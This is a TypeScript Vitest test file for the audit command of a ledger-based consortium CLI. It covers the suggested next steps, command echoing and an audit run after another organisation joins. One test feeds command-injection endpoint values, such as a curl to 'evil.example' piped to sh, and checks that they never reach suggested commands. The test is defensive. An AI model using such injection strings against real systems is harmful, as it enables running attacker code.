import { randomBytes } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditReport } from '../../src/audit/report.ts';
import { CHECKS, type Gap, type Unseen } from '../../src/audit/source/coverage.ts';
import { type AuditAsked, nextLines } from '../../src/cli/audit-next.ts';
import { openLogOnChain } from '../../src/cli/open-log.ts';
import { sameCommand } from '../../src/cli/own-command.ts';
import { sendOwnCall } from '../../src/client/own-transaction.ts';
import { inviteStaff } from '../../src/client/staff.ts';
import { enrollSubject } from '../../src/client/subjects.ts';
import { programName } from '../../src/config.ts';
import { type Digest, ZERO_DIGEST } from '../../src/core/ids.ts';
import { randomAccountKey } from '../../src/ledger/account-key.ts';
import { ledgerCalls } from '../../src/ledger/calls.ts';
import { createKey } from '../../src/ledger/keystore.ts';
import { openLedger } from '../../src/ledger/reader.ts';
import { ROLE } from '../../src/ledger/words.ts';
import { type Consortium, foundConsortium } from '../gateway/consortium.ts';
import { vouching } from '../gateway/persons.ts';
import { keyOptions } from './holder-world.ts';
import { custos } from './kept-program.ts';

const KINDS = Object.values(CHECKS).flatMap(({ gaps }): readonly (keyof Unseen)[] => gaps);
const member = (identity: string) => `“${identity}”`;
const ASKED: AuditAsked = { urls: ['https://one.example'], isSomebody: true, member };

/** A report in which nothing was seen of one thing. */
function without(gap: Partial<Gap> & Pick<Gap, 'kind'>): AuditReport {
  const whole = { count: 1, reason: 'it was not there', ...gap };
  const check = { check: 'logs', level: 'log', state: 'could-not', done: 0, of: 1, gaps: [whole] };
  return { verdict: 'could-not', checks: [check], counts: { within: 1, newer: 0 }, logs: [{}] } as never;
}

describe('what an audit could not tell', () => {
  it.each(KINDS.map((kind) => [kind] as const))('of %s is said with what to do next', (kind) => {
    for (const asked of [
      ASKED,
      { ...ASKED, isSomebody: false },
      { ...ASKED, urls: [], bundle: 'all.json', isSomebody: false },
    ]) {
      for (const denied of [{}, { denied: true } as const]) {
        const [empty, head, ...steps] = nextLines(without({ kind, ...denied }), asked);
        expect([empty, head]).toEqual(['', 'To learn what could not be told:']);
        expect(steps.length).toBeGreaterThan(0);
        // A command, a newer version, or that nobody can tell any more.
        for (const step of steps) expect(step).toMatch(/`.+ .+`|newer version|any more/);
      }
    }
  });

  it.each([
    "http://x';curl evil.example|sh;'",
    'http://x`curl evil.example`',
    'https://two.example --out all.json',
    '--out=all.json',
    'https://two.example/$HOME',
    'https://user@two.example',
    'https://two.example/?log',
    'ftp://two.example',
    'HTTPS://TWO.example',
    'https://two.example/a/../b',
  ])('puts no address of the ledger into a command that is no plain URL (%s)', (endpoint) => {
    const lines = nextLines(without({ kind: 'logs', holder: '0xab' as never, endpoint }), ASKED).join('\n');
    expect(lines).not.toContain(endpoint);
    expect(lines).toContain('The ledger has no address that can be used for the log of “0xab”: ask');
    expect(lines).toMatch(/`.* --log https:\/\/one\.example URL`$/);
  });

  it('is nothing where all was seen', () => {
    const clean = { ...without({ kind: 'logs' }), verdict: 'clean', checks: [] } as const;
    expect(nextLines(clean, ASKED)).toEqual([]);
  });

  it('asks for another range, or for patience, where no entry could be judged', () => {
    const ranged = { ...without({ kind: 'logs' }), checks: [], range: { from: { entry: 9 } } };
    const none = { ...ranged, counts: { ...ranged.counts, within: 0, entries: 4 } };
    expect(nextLines(none, ASKED).at(-1)).toMatch(/entries 0 to 3: `.*--from ENTRY --to ENTRY`/);
    const newer = { ...none, counts: { ...none.counts, newer: 2 } };
    expect(nextLines(newer, ASKED).at(-1)).toMatch(/Audit again in a minute/);
  });
});

it('repeats the command that was typed, with other options in place of the same', () => {
  const given = ['audit', '--log', 'http://a.example', 'http://b.example', '--as', 'my auditor', '--rpc=http://old'];
  const said = (more: string) => sameCommand(more, given).slice(programName().length + 2, -1);
  expect(said('')).toBe("audit --log http://a.example http://b.example --as 'my auditor' --rpc=http://old");
  expect(said('--rpc URL')).toBe("audit --log http://a.example http://b.example --as 'my auditor' --rpc URL");
  expect(said('--log X Y')).toBe("audit --as 'my auditor' --rpc=http://old --log X Y");
});

describe('an audit after another organisation joined', () => {
  let directory: string;
  let consortium: Consortium;
  let ana: Digest;

  beforeAll(async () => {
    directory = await mkdtemp(join(tmpdir(), 'custos-audit-next-'));
    const key = (name: string) => createKey(join(directory, `${name}.key`));
    const keys = { holder: await key('holder'), auditor: await key('auditor') };
    consortium = await foundConsortium({ patients: 1, keys });
    const organisation = await vouching(consortium, keys.holder);
    ({ person: ana } = await inviteStaff(consortium.client(keys.holder), {
      name: 'Ana Souza',
      duties: ['data-manager'],
    }));
    await enrollSubject(organisation.person(ana), 'urn:example:audit|1');
    const { administrator } = consortium.keys;
    const client = consortium.client(administrator);
    const { membership } = ledgerCalls((await client.identity()).contracts);
    const [holder, gateway] = [randomAccountKey(), randomAccountKey()];
    const at = 'http://127.0.0.1:9/other';
    const calls = [
      membership.add(holder.address, ROLE.holder, holder.address, ZERO_DIGEST, ''),
      membership.add(gateway.address, ROLE.gateway, holder.address, ZERO_DIGEST, at),
    ];
    for (const call of calls) await sendOwnCall(client, call);
    const reader = await openLedger({ url: consortium.chain.url, membership: consortium.deployment.membership });
    await openLogOnChain({
      reader,
      gateway,
      holder: holder.address,
      seed: randomBytes(32),
      mode: 'disclosed',
      fromHeight: 0,
    });
    reader.close();
  }, 120_000);
  afterAll(async () => {
    await consortium?.close();
    await rm(directory, { recursive: true, force: true });
  });

  const run = (who: string, ...command: string[]) =>
    custos([...command, ...keyOptions(directory, who, consortium.endpoint)]);

  it('says by which command it would read the new log as well', async () => {
    const { code, stdout } = await run('auditor', 'audit');
    expect(code).toBe(2);
    const [, line = ''] = stdout.split('To learn what could not be told:\n');
    expect(line).toMatch(/^ {2}Read the logs of the others as well, where the ledger says that they are: `.* audit /);
    expect(line).toContain(`--log ${consortium.endpoint} http://127.0.0.1:9/other\``);
    expect(line).toContain(`--key ${join(directory, 'auditor.key')}`);
  });

  it('names persons for whom they are shown, others by what can be typed, and whole in JSON', async () => {
    const list = (text: string) => text.split('What persons did in the holders’ names:\n')[1] ?? '';
    const byAuditor = list((await run('auditor', 'audit')).stdout);
    expect(byAuditor).toMatch(new RegExp(`^  for 0x\\w{8}, the person ${ana.slice(0, 10)}: `, 'm'));
    expect(byAuditor).not.toContain(ana);
    expect(list((await run('holder', 'audit')).stdout)).toMatch(/^ {2}for 0x\w{8}, Ana Souza: enrolment 1$/m);
    const { staff } = JSON.parse((await run('auditor', 'audit', '--json')).stdout) as AuditReport;
    expect(staff.map(({ person }) => person)).toContain(ana);
    const reason = ['--reason', 'Who enrols patients here?'];
    expect((await run('auditor', 'person', 'resolve', ana.slice(0, 8), ...reason)).stdout).toMatch(/^Ana Souza/);
    expect(list((await run('auditor', 'audit')).stdout)).toMatch(/, Ana Souza: enrolment 1$/m);
    expect((await run('auditor', 'acts', 'log')).stdout).toMatch(/Ana Souza +enrolled a patient/);
  });
});
